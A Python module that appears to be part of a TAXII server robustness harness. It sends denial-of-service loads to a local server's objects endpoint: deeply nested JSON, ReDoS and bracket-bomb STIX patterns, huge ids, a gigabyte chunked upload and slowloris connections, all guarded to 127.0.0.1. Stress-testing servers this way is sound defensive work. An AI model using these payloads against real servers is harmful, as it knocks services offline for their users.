"""What is sent at a TAXII server to hold up others: each kind for some seconds, from a process of
its own, with a key that may post, and at 127.0.0.1 alone.
"""

import base64
import json
import socket
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

from taxii_measure import MEDIA, Server

AT = "2026-11-27T09:00:00.000Z"
DEEP = b'{"a":' * 10_000 + b"1" + b"}" * 10_000
SLOW = 20  # connections that bring a byte now and then
GIGABYTE = 1 << 30
_CHUNK = b"10000\r\n" + b" " * 65_536 + b"\r\n"
_WAITS = 60.0  # seconds for an answer
_PATTERNS = (
    "[file:name MATCHES '^(a+)+$']",
    "[file:name MATCHES '(a|a?)*b'] AND " * 50 + "[file:name = 'x']",
    "[" * 5000 + "]" * 5000,
    "(" * 5000 + "[file:name = 'x']" + ")" * 5000,
)


def attack(kind: str, server: Server, collection: str, until: float, told: Any) -> None:
    """Send this kind until a moment (`time.monotonic`); puts what was answered, and how often."""
    answers: Counter[str] = Counter()
    path = server.objects(collection)
    if kind == "slow":
        _slow(server, path, until, answers)
    elif kind == "large":
        while time.monotonic() < until:
            answers[_large(server, path, until)] += 1
    else:
        bodies = BODIES[kind]()
        while time.monotonic() < until:
            answers[_post(server, path, next(bodies))] += 1
    told.put(dict(answers))


def _deep() -> Iterator[bytes]:
    """A hundred objects nested 10,000 deep, between two that hold."""
    while True:
        yield _envelope([_indicator(), *[DEEP] * 100, _indicator()])


def _patterns() -> Iterator[bytes]:
    """Thousands of patterns on which matchers of regular expressions and of brackets despair."""
    while True:
        yield _envelope([_indicator(_PATTERNS[at % len(_PATTERNS)]) for at in range(1000)])


def _ids() -> Iterator[bytes]:
    """Ids of half a megabyte, and a thousand of some kilobytes."""
    while True:
        yield _envelope([_indicator(id="indicator--" + "a" * 500_000) for _ in range(10)])
        yield _envelope([_indicator(id=f"indicator--{'9' * 5000}{at}") for at in range(1000)])


BODIES: dict[str, Callable[[], Iterator[bytes]]] = {
    "deep": _deep, "patterns": _patterns, "ids": _ids,
}  # fmt: skip
KINDS = (*BODIES, "large", "slow")


def _post(server: Server, path: str, body: bytes) -> str:
    with _line(server) as line:
        return _told(line, _head(server, path, f"Content-Length: {len(body)}") + body)


def _large(server: Server, path: str, until: float) -> str:
    """A gigabyte in chunks, without a word of how long it will be."""
    with _line(server) as line:
        sent = 0
        try:
            line.sendall(_head(server, path, "Transfer-Encoding: chunked"))
            while sent < GIGABYTE and time.monotonic() < until:
                line.sendall(_CHUNK)
                sent += 65_536
            return _told(line, b"0\r\n\r\n")
        except OSError:
            return _told(line, b"")


def _slow(server: Server, path: str, until: float, answers: Counter[str]) -> None:
    """Bodies that say that they are long, and come a byte at a time."""
    lines = [_line(server) for _ in range(SLOW)]
    for line in lines:
        line.sendall(_head(server, path, "Content-Length: 100000") + b'{"objects":[')
    while time.monotonic() < until:
        for line in lines:
            try:
                line.sendall(b" ")
            except OSError:
                answers["hung up on"] += 1
        time.sleep(0.1)
    for line in lines:
        line.close()
    answers["held open"] = len(lines)


def _line(server: Server) -> socket.socket:
    there = urlsplit(server.host)
    assert there.hostname == "127.0.0.1"
    return socket.create_connection((there.hostname, there.port or 80), timeout=_WAITS)


def _told(line: socket.socket, rest: bytes) -> str:
    """Send what is left, and the status that comes back."""
    try:
        line.sendall(rest)
        said = line.recv(200)
    except OSError as error:
        return type(error).__name__
    return said.split(b" ")[1].decode() if said.count(b" ") else "hung up on"


def _head(server: Server, path: str, length: str) -> bytes:
    word = base64.b64encode(f"{server.user}:{server.password}".encode()).decode()
    lines = (
        f"POST {path} HTTP/1.1", f"Host: {urlsplit(server.host).netloc}",
        f"Authorization: Basic {word}", f"Accept: {MEDIA}", f"Content-Type: {MEDIA}", length,
        "Connection: close", "", "",
    )  # fmt: skip
    return "\r\n".join(lines).encode()


def _envelope(objects: list[bytes]) -> bytes:
    return b'{"objects":[' + b",".join(objects) + b"]}"


def _indicator(pattern: str = "[url:value = 'http://a']", id: str = "") -> bytes:
    thing = {
        "type": "indicator", "spec_version": "2.1", "id": id or f"indicator--{uuid.uuid4()}",
        "created": AT, "modified": AT, "pattern": pattern, "pattern_type": "stix",
        "valid_from": AT,
    }  # fmt: skip
    return json.dumps(thing).encode()
